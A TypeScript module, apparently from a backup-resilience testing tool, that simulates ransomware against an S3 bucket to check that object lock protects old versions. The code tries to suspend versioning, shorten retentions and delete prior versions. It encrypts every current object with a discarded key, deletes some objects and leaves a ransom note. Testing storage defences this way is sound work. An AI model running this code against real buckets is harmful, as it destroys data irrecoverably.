import { createCipheriv, randomBytes } from 'node:crypto';
import { Readable } from 'node:stream';
import {
  DeleteObjectCommand,
  DeleteObjectsCommand,
  GetObjectCommand,
  PutBucketVersioningCommand,
  PutObjectCommand,
  PutObjectRetentionCommand,
  S3ServiceException,
} from '@aws-sdk/client-s3';
import { Upload } from '@aws-sdk/lib-storage';
import { forEachBounded } from '../../asset-kit/bounded.ts';
import { summaryOf } from '../../model/errors.ts';
import type { Assurance } from '../../model/record.ts';
import { CONCURRENCY } from './client.ts';
import { type Listing, readListing } from './disaster.ts';
import { type BucketAt, type CurrentObject, versionPages } from './listing.ts';
import { streamedBody } from './streamed-body.ts';
import { finish } from './upload.ts';

/** Deletes every third object as well, behind a delete marker. */
const DELETED_EVERY = 3;
const RETENTIONS_TRIED = 10;
const IV_BYTES = 16;
/** Larger objects are encrypted as a stream, in parts. */
const WHOLE_MAX_BYTES = 1024 * 1024;
const NOTE_KEY = 'HOW-TO-GET-YOUR-FILES-BACK.txt';
/** Errors with which S3 enforces a lock. */
const REFUSALS = new Set(['AccessDenied', 'InvalidBucketState', 'InvalidRequest']);

interface Attempts {
  readonly what: string;
  tried: number;
  refused: number;
  example: string;
}

/** Promise that the attack must not break. */
export const OLD_VERSIONS = { promise: 'untouched', what: 'the versions from before the attack' } as const;

export interface Attack {
  readonly exercised: string;
  /** Attempts against the versions, and the number of refusals. */
  readonly assurance: Assurance;
}

/**
 * Attacks the bucket as ransomware does: first the protection of versions (versioning, retentions), then the objects themselves, and
 * finally every version from before, the only means to undo the attack. It bypasses nothing that a writer may not bypass: no writer has
 * `s3:BypassGovernanceRetention`.
 * @param listing a plain listing from just before.
 * @param beganUtc a fresh second of the bucket's clock; objects with an earlier stamp are from before the attack.
 */
export async function encryptEverything(
  at: BucketAt,
  listing: Listing,
  beganUtc: string,
  signal: AbortSignal,
): Promise<Attack> {
  const versioning = await trySuspending(at, signal);
  const retentions = await tryShorteningRetentions(at, signal);
  const key = randomBytes(32);
  let [encrypted, deleted] = [0, 0];
  await forEachBounded(readListing(listing), CONCURRENCY, async (object) => {
    const turn = encrypted;
    encrypted += 1;
    await encryptObject(at, object, key, signal);
    if (turn % DELETED_EVERY !== 0) return;
    deleted += 1;
    await at.client.send(new DeleteObjectCommand({ Bucket: at.bucket, Key: object.key }), { abortSignal: signal });
  });
  const note = new PutObjectCommand({ Bucket: at.bucket, Key: NOTE_KEY, Body: 'Pay.', ContentLength: 4 });
  await at.client.send(note, { abortSignal: signal });
  const deletions = await tryDeletingVersions(at, beganUtc, signal);
  const attempts = [versioning, retentions, deletions].filter(({ tried }) => tried > 0);
  const refused = attempts.map((attempt) => `${attempt.what}: ${attempt.refused} of ${attempt.tried} refused`);
  const observed = attempts
    .map(({ what, tried, refused, example }) => ({
      what,
      held: refused === tried,
      checks: tried,
      observed: `${refused} of ${tried} refused${example === '' ? '' : `, e.g. ${example}`}`,
    }))
    .toSorted((one, other) => Number(one.held) - Number(other.held));
  return {
    exercised: `${encrypted} current objects overwritten with ciphertext (AES-256, a key that nobody keeps), ${deleted} of them deleted on top, a note left; and ${refused.join('; ')}; not tried: requests that need s3:BypassGovernanceRetention or s3:PutBucketObjectLockConfiguration, which IAM denies a writer`,
    assurance: {
      ...OLD_VERSIONS,
      checked: attempts.reduce((sum, { tried }) => sum + tried, 0),
      failed: attempts.reduce((sum, { tried, refused }) => sum + tried - refused, 0),
      observed,
    },
  };
}

async function trySuspending({ client, bucket }: BucketAt, signal: AbortSignal): Promise<Attempts> {
  const attempts: Attempts = { what: 'suspending versioning', tried: 0, refused: 0, example: '' };
  const VersioningConfiguration = { Status: 'Suspended' } as const;
  await attempt(attempts, () =>
    client.send(new PutBucketVersioningCommand({ Bucket: bucket, VersioningConfiguration }), { abortSignal: signal }),
  );
  return attempts;
}

async function tryShorteningRetentions(at: BucketAt, signal: AbortSignal): Promise<Attempts> {
  const attempts: Attempts = { what: 'shortening a retention', tried: 0, refused: 0, example: '' };
  const inAMinute = new Date(Math.ceil(Date.now() / 1_000) * 1_000 + 60_000);
  for await (const page of versionPages(at, signal)) {
    for (const { key, versionId } of page.filter(({ deleteMarker }) => !deleteMarker)) {
      const Retention = { Mode: 'GOVERNANCE', RetainUntilDate: inAMinute } as const;
      await attempt(attempts, () =>
        at.client.send(
          new PutObjectRetentionCommand({ Bucket: at.bucket, Key: key, VersionId: versionId, Retention }),
          { abortSignal: signal },
        ),
      );
      if (attempts.tried === RETENTIONS_TRIED) return attempts;
    }
  }
  return attempts;
}

async function attempt(attempts: Attempts, work: () => Promise<unknown>): Promise<void> {
  attempts.tried += 1;
  try {
    await work();
    attempts.example ||= 'one was accepted';
  } catch (error) {
    if (!(error instanceof S3ServiceException) || !REFUSALS.has(error.name)) throw error;
    attempts.refused += 1;
    attempts.example ||= summaryOf(error);
  }
}

/**
 * Tries to delete the versions from before the attack, but no delete markers: removing one restores an object, which a thief does not want.
 */
async function tryDeletingVersions(at: BucketAt, beganUtc: string, signal: AbortSignal): Promise<Attempts> {
  const attempts: Attempts = { what: 'deleting a version', tried: 0, refused: 0, example: '' };
  for await (const page of versionPages(at, signal)) {
    const Objects = page
      .filter(({ deleteMarker, lastModified }) => !deleteMarker && lastModified < beganUtc)
      .map(({ key, versionId }) => ({ Key: key, VersionId: versionId }));
    if (Objects.length === 0) continue;
    const { Errors = [] } = await at.client.send(
      new DeleteObjectsCommand({ Bucket: at.bucket, Delete: { Objects, Quiet: true } }),
      { abortSignal: signal },
    );
    const unforeseen = Errors.find(({ Code = '' }) => !REFUSALS.has(Code));
    if (unforeseen !== undefined) throw new Error(`deleting versions of ${at.bucket}: ${unforeseen.Code}`);
    attempts.tried += Objects.length;
    attempts.refused += Errors.length;
    const [first] = Errors;
    if (first !== undefined) attempts.example ||= `"${first.Key}": ${first.Code}, ${first.Message}`;
  }
  return attempts;
}

/** Overwrites the object with its ciphertext. The vector comes first, so even an empty object changes. */
async function encryptObject(at: BucketAt, object: CurrentObject, key: Buffer, signal: AbortSignal): Promise<void> {
  const named = { Bucket: at.bucket, Key: object.key };
  const { Body } = await at.client.send(new GetObjectCommand(named), { abortSignal: signal });
  const plain = streamedBody.parse(Body);
  if (object.sizeBytes <= WHOLE_MAX_BYTES) {
    const whole = Buffer.concat(await Array.fromAsync(ciphertext(plain, key)));
    const put = new PutObjectCommand({ ...named, Body: whole, ContentLength: whole.byteLength });
    await at.client.send(put, { abortSignal: signal });
    return;
  }
  signal.throwIfAborted();
  const upload = new Upload({
    client: at.client,
    params: { ...named, Body: Readable.from(ciphertext(plain, key), { objectMode: false }) },
    queueSize: 2,
  });
  await finish(upload, signal);
}

async function* ciphertext(plain: AsyncIterable<Uint8Array>, key: Buffer): AsyncGenerator<Buffer> {
  const vector = randomBytes(IV_BYTES);
  const cipher = createCipheriv('aes-256-ctr', key, vector);
  yield vector;
  for await (const chunk of plain) yield cipher.update(chunk);
}
